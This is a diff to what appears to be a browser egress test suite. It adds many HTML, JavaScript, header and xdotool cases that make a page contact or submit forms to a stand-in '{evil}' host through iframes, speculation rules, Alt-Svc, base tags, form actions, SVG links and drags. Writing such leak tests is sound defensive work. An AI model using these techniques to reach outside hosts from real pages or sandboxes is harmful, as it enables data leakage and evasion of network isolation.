@@ -16,6 +16,7 @@ class Kind:
     script: str = ""
     headers: tuple = ()  # of the page
     click: str = ""      # xdotool's words, done on the page
+    drag: str = ""       # an address that another program offers to be dragged, from 50, 650
     control: bool = True  # an unlocked window is known to make this contact
 
 
@@ -98,6 +99,15 @@ PARTS = {
                           "f.contentDocument.body.innerHTML = '<img src={evil}/a.png>'"),
     "frame-location": script("const f = document.createElement('iframe'); document.body.append(f);"
                              "f.contentWindow.location = '{evil}/'"),
+    "frameset": element('<iframe srcdoc="&lt;frameset&gt;&lt;frame src={evil}/&gt;&lt;/frameset&gt;"></iframe>'),
+    "base": element('<iframe srcdoc="&lt;base href={evil}/&gt;&lt;img src=a.png&gt;"></iframe>'),
+    "portal": element('<portal src="{evil}/"></portal>', GUARD),
+    "fenced-frame": element('<fencedframe src="{evil}/"></fencedframe>', GUARD),
+    "speculation": element('<script type="speculationrules">{"prefetch": [{"urls": ["{evil}/"]}]}</script>', GUARD),
+    "attribution": element('<img attributionsrc="{evil}/" src="/none.mp4">', GUARD),
+    "svg-script": element('<svg><script href="{evil}/a.js"></script></svg>'),
+    "alternative-service": Kind(headers=(("Alt-Svc", 'h2="{to}:443"; ma=9, h3="{to}:443"; ma=9'),), control=GUARD),
+    "reporting": element('<iframe src="/reporting/reporting"></iframe>', GUARD),
     "csp-report": element('<iframe src="/csp/csp-report"></iframe>'),
     "link-header": Kind(headers=(("Link", "<{evil}/a.png>; rel=preload; as=image"),)),
     "link-header-connect": Kind(headers=(("Link", "<{evil}>; rel=preconnect"),)),
@@ -128,6 +138,14 @@ MOVES = {
     "refresh-header": Kind(headers=(("Refresh", "0; url={evil}/"),)),
     "redirect": script("location = '/redirect/redirect'"),
     "redirect-twice": script("location = '/redirect-twice/redirect-twice'"),
+    "redirect-303": script("document.forms[0].submit()"),
+    "redirect-308": script("document.forms[0].submit()"),
+    "history-back": Kind(script="history.pushState(0, '', '/redirect/history-back'); location = '/back'",
+                         headers=(("Cache-Control", "no-store"),)),
+    "navigation": script("navigation.navigate('{evil}/')", GUARD),
+    "open-self": script("open('{evil}/', '_self')"),
+    "frame-form-top": element('<iframe srcdoc="&lt;form action={evil}/ target=_top&gt;&lt;/form&gt;'
+                              '&lt;script&gt;document.forms[0].submit()&lt;/script&gt;"></iframe>'),
     "form-get": script("document.forms[0].submit()"),
     "form-post": script("document.forms[0].submit()"),
     "form-redirect": script("document.forms[0].submit()"),
@@ -163,16 +181,30 @@ MOVES = {
     "link-drag": Kind(body='<a href="{evil}/" style="position:fixed;inset:0 0 30% 0;font-size:40px">lien</a>',
                       click="mousedown 1 mousemove_relative 20 20 mousemove_relative 20 20 sleep 0.3 "
                             "mousemove 512 700 sleep 0.3 mouseup 1", control=GUARD),
+    "link-base": Kind(body=LINK.format(href="x", more=""), click=LEFT, script="document.body.append("
+                      "Object.assign(document.createElement('base'), {href: '{evil}/'}))"),
+    "link-svg": Kind(body='<svg style="position:fixed;inset:0;width:100%;height:100%"><a href="{evil}/">'
+                          '<rect width="100%" height="100%" fill="transparent"/></a></svg>', click=LEFT),
+    "link-area": Kind(body='<map name="m"><area shape="default" href="{evil}/"></map><img usemap="#m" style="position:fixed;'
+                           'inset:0;width:100%;height:100%" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">', click=LEFT),
+    "link-dropped": Kind(click="mousemove 50 650 mousedown 1 mousemove 70 640 mousemove 110 620 sleep 0.3 mousemove 512 400 "
+                               "mousemove 520 410 sleep 0.3 mouseup 1", drag="{evil}/"),
     "link-script": link("javascript:void(location='{evil}/')"),
     "link-redirect": link("/redirect/link-redirect"),
     "button-open": button("window.open('{evil}/')"),
     "button-open-script": button("window.open('javascript:location=&quot;{evil}/&quot;')", GUARD),
     "button-open-blank": button("const w = window.open(''); w.location = '{evil}/'"),
     "button-form": button("document.forms[0].submit()"),
+    "button-action": Kind(body='<form method="post" action="/empty">' + BUTTON.format(more='formaction="{evil}/"') + "</form>",
+                          click=LEFT),
+    "button-target": Kind(body='<form method="post" action="/empty">' + BUTTON.format(
+        more='formaction="{evil}/" formtarget="_blank"') + "</form>", click=LEFT),
 }
 FORMS = {
     "form-get": '<form action="{evil}/"><input name="a" value="b"></form>',
     "form-post": '<form action="{evil}/" method="post"><input name="a" value="b"></form>',
+    "redirect-303": '<form action="/redirect-other/redirect-303" method="post"><input name="a" value="b"></form>',
+    "redirect-308": '<form action="/redirect-for-good/redirect-308" method="post"><input name="a" value="b"></form>',
     "form-redirect": '<form action="/redirect-same/form-redirect" method="post"><input name="a" value="b"></form>',
     "button-form": '<form action="{evil}/" method="post" target="_blank"><input name="a" value="b"></form>',
 }
